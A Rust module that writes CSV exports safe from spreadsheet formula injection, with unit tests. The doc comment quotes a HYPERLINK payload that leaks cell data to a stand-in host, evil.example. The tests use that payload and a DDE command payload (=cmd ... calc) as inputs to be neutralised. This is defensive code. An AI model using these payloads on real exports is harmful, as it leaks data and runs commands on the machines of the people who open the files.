//! Writing CSV files people open in a spreadsheet.
//!
//! A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is
//! read by Excel, LibreOffice and Google Sheets as a formula: a name such as
//! `=HYPERLINK("https://evil.example?"&A1, "…")` in an export would run in
//! the organizer's spreadsheet. Every cell written here that begins so gets
//! a leading `'`, as OWASP recommends for CSV exports: the spreadsheet
//! shows the text and does not evaluate it. Full-width forms (`＝` …) are
//! treated the same, since Japanese input methods produce them.

use std::borrow::Cow;

use crate::{Error, Result};

/// `text` as a cell a spreadsheet shows and never evaluates.
pub fn cell(text: &str) -> Cow<'_, str> {
    const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Appends one CSV line (CRLF, as Excel expects) to `out`, each field made
/// safe with [`cell`] and quoted where CSV needs it.
pub fn write_row<I, T>(out: &mut Vec<u8>, fields: I) -> Result<()>
where
    I: IntoIterator<Item = T>,
    T: AsRef<str>,
{
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(out);
    let fields: Vec<T> = fields.into_iter().collect();
    let cells = fields.iter().map(|field| cell(field.as_ref()).into_owned());
    writer.write_record(cells).map_err(|err| {
        tracing::error!(error = %err, "writing a CSV line");
        Error::Internal
    })?;
    writer.flush().map_err(|_| Error::Internal)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_plain_text_stays() {
        for formula in [
            "=HYPERLINK(\"https://evil.example\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "=cmd|' /C calc'!A0",
            "＝１＋１",
        ] {
            assert_eq!(cell(formula), format!("'{formula}"));
        }
        for text in [
            "佐藤 花子",
            "a=b",
            "",
            "2026-12-04 10:00",
            "hanako@example.co.jp",
        ] {
            assert_eq!(cell(text), text);
        }
    }

    #[test]
    fn a_row_is_quoted_and_ends_with_crlf() {
        let mut out = Vec::new();
        write_row(&mut out, ["=1+1", "a,b", "say \"hi\""]).unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "'=1+1,\"a,b\",\"say \"\"hi\"\"\"\r\n"
        );
    }
}
